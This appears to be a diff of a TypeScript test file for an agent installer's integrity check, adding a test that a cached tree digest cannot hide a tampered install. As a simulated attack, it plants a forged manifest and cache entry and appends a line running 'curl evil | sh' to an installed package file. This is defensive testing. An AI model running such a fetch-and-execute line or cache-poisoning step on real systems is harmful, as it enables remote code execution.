@@ -1,8 +1,13 @@
 import {appendFile, readdir, readFile, rm, stat, symlink, writeFile} from 'node:fs/promises';
 import {join} from 'node:path';
+import {setTimeout as sleep} from 'node:timers/promises';
+import {pathToFileURL} from 'node:url';
 import t from 'tap';
 import {checkSpec, installAgent, InstallManifest, verifyAgent, type AgentSpec} from '../../agents/index.js';
 import {digestFile, digestJson} from '../../files/digest.js';
+import {digestCachePath} from '../../files/digest-cache.js';
+import {installRoot} from '../../files/install-root.js';
+import {runInGroup} from '../../process/index.js';
 import {checkNoLeaks} from '../leak-check.js';
 import {tempDir} from '../temp-dir.js';
 
@@ -105,4 +110,49 @@ t.test('a command spec without a package has nothing to install', async t => {
 	if (typeof checked === 'string') return t.fail(checked);
 	t.match(await installAgent(checked, {store}), {ok: false, reason: 'no_package'});
 	t.match(await verifyAgent(checked, store), {ok: false, reason: 'no_package'});
+});
+
+/** verifyAgent in a new Node process with its own digest cache folder, as the next hlab process would run it. */
+async function verifyInProcess(store: string, cacheHome: string): Promise<{ok: boolean; reason?: string; file?: string | null}> {
+	const module = pathToFileURL(join(installRoot, 'dist', 'agents', 'index.js')).href;
+	const script = `const {verifyAgent, checkSpec} = await import(${JSON.stringify(module)}); const spec = checkSpec(${JSON.stringify(spec({}))}); process.stdout.write(JSON.stringify(await verifyAgent(spec, ${JSON.stringify(store)})));`;
+	const run = await runInGroup({argv: [process.execPath, '--input-type=module', '-e', script], env: {XDG_CACHE_HOME: cacheHome}, deadlineMs: 60_000});
+	if (run.record.exit_code !== 0) throw new Error(run.stderr?.toString());
+	return JSON.parse(run.stdout?.toString() ?? '') as {ok: boolean};
+}
+
+async function cacheEntries(cacheHome: string): Promise<Record<string, string>> {
+	return (JSON.parse(await readFile(digestCachePath({XDG_CACHE_HOME: cacheHome}), 'utf8')) as {entries: Record<string, string>}).entries;
+}
+
+t.test('a settled install is verified from one cache entry for its whole tree, and an edit is never answered from it', async t => {
+	const store = await tempDir(t, 'hlab-agent-store-');
+	const cacheHome = await tempDir(t, 'hlab-agent-cache-');
+	const installed = await installAgent(spec({}), {store});
+	if (!installed.ok) return t.fail(`the install failed: ${installed.message}`);
+	// Past the settling time (files/file-digest.ts), the tree's stamps can be trusted.
+	await sleep(2_200);
+	t.match(await verifyInProcess(store, cacheHome), {ok: true});
+	const entries = await cacheEntries(cacheHome);
+	const keys = Object.keys(entries);
+	t.equal(keys.length, 1, 'one entry for the whole tree, none for its files');
+	t.match(keys[0], /^agent-tree:sha256:/);
+	t.equal(entries[keys[0]!], installed.manifest.digest.slice('sha256:'.length), 'the tree\'s digest as installed');
+
+	// A manifest that names another table, consistent with its own digest, planted with that digest in the cache: the
+	// next process takes the cached digest for the tree (a file-by-file check would name the altered entry).
+	const manifestPath = join(installed.dir, 'install.json');
+	const original = await readFile(manifestPath, 'utf8');
+	const manifest = InstallManifest.parse(JSON.parse(original));
+	const altered = {...manifest.files, 'node_modules/semver/package.json': `sha256:${'1'.repeat(64)}`};
+	await writeFile(manifestPath, JSON.stringify({...manifest, files: altered, digest: digestJson(altered)}));
+	await writeFile(digestCachePath({XDG_CACHE_HOME: cacheHome}), JSON.stringify({schema: 'harness-lab/file-digests@1', entries: {[keys[0]!]: digestJson(altered).slice('sha256:'.length)}}));
+	t.match(await verifyInProcess(store, cacheHome), {ok: true}, 'a second process answers from the entry');
+	await writeFile(manifestPath, original);
+	await writeFile(digestCachePath({XDG_CACHE_HOME: cacheHome}), JSON.stringify({schema: 'harness-lab/file-digests@1', entries}));
+
+	// The attack: the entry for the tree as installed still there, one file edited and left to settle. Its stamp moved, so the key did.
+	await appendFile(join(installed.dir, 'node_modules/semver/bin/semver.js'), '\nrequire("child_process").execSync("curl evil | sh")\n');
+	await sleep(2_200);
+	t.match(await verifyInProcess(store, cacheHome), {ok: false, reason: 'changed', file: 'node_modules/semver/bin/semver.js'}, 'an edited tree is checked file by file');
 });
